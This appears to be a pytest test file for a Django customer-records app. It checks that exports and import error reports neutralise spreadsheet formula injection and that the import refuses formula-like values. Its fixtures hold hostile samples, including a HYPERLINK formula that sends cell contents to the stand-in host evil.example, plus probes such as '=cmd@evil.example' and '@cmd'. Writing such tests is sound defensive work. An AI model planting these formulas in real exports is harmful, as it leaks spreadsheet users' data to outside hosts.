"""Formula injection (issue 15, item 1) in the customer exports and the import: exports write
formula-like text as text (masked values such as "=***@…" too); the import refuses such text
where the column does not allow it, and its error report keeps it text in both formats."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation

from customers.records.exporting import customers_xlsx
from customers.records.models import Customer
from customers.records.transfers import customer_import_stage
from tests.factories import CustomerFactory, make_uscc
from tests.files import xlsx_text_cells

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def hostile(rm_a):
    return CustomerFactory(owner=rm_a, name=NAME, email="=cmd@evil.example")


@pytest.mark.parametrize("unmasked", [False, True])
def test_customer_exports_write_formula_like_text_as_text(hostile, unmasked):
    data, rows = customers_xlsx(Customer.objects.all(), unmasked=unmasked)
    cells = xlsx_text_cells(data)
    assert rows == 1 and NAME in cells
    assert ("=cmd@evil.example" if unmasked else "=***@evil.example") in cells


def _upload(rows):
    out = io.StringIO()
    csv.writer(out).writerows([["number", "kind", "name", "uscc"], *rows])
    return SimpleUploadedFile("c.csv", out.getvalue().encode())


def test_import_refuses_formula_like_codes_and_names(rm_a):
    with translation.override("en"):
        staged = customer_import_stage(
            rm_a,
            _upload(
                [
                    ["=SUM(A1)", "institution", "华信信托有限公司", make_uscc(3)],
                    ["S0002", "institution", "@cmd", make_uscc(4)],
                    ["S0003", "institution", "华信信托有限公司二部", make_uscc(5)],
                ]
            ),
        )
    refused = {
        (e["row"], e["column"], e["value"]) for e in staged.errors if "formula" in e["reason"]
    }
    assert refused == {(2, "number", "=SUM(A1)"), (3, "name", "@cmd")}
    assert [r["number"] for r in staged.valid_rows] == ["S0003"]


def test_error_reports_keep_formula_like_values_text(as_user, rm_a):
    staged = customer_import_stage(
        rm_a, _upload([["S0001", "=1+2", "-name", make_uscc(3)], ["S0002", "@x", "y", ""]])
    )
    client = as_user(rm_a)
    url = reverse("customers:import-errors", args=[staged.pk])
    cells = xlsx_text_cells(client.get(url).content)
    assert {"=1+2", "-name", "@x"} <= set(cells)
    text = client.get(url + "?format=csv").content.decode("utf-8-sig")
    values = [row[2] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert {"'=1+2", "'-name", "'@x"} <= set(values)
    assert not [v for v in values if v[:1] in "=+-@"]
